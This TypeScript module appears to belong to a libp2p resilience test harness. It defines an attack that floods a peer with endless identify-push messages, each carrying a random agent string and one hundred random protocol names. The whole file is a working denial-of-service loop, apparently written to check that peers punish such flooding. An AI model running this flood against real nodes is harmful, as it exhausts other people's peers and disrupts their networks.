/** Identify pushes as fast as they go, each with another agent, addresses and protocols. */

import { randomBytes } from "node:crypto";
import { type Attack, persist } from "../attack.ts";
import { pour } from "../peer.ts";
import { field, framed } from "../wire.ts";

const PROTOCOLS = 100;

export const attack: Attack = {
  claim: "identify pushes without end",
  isPunished: true,
  run: (context) =>
    persist(
      context,
      async (peer) => {
        for (;;) {
          const stream = await peer.open("/ipfs/id/push/1.0.0");
          const protocols = Array.from({ length: PROTOCOLS }, () => field(3, randomBytes(8).toString("hex")));
          const message = Buffer.concat([field(6, randomBytes(512).toString("hex")), ...protocols]);
          context.count("pushes");
          if (await pour(stream, framed(message))) await stream.close();
        }
      },
      true,
    ),
};
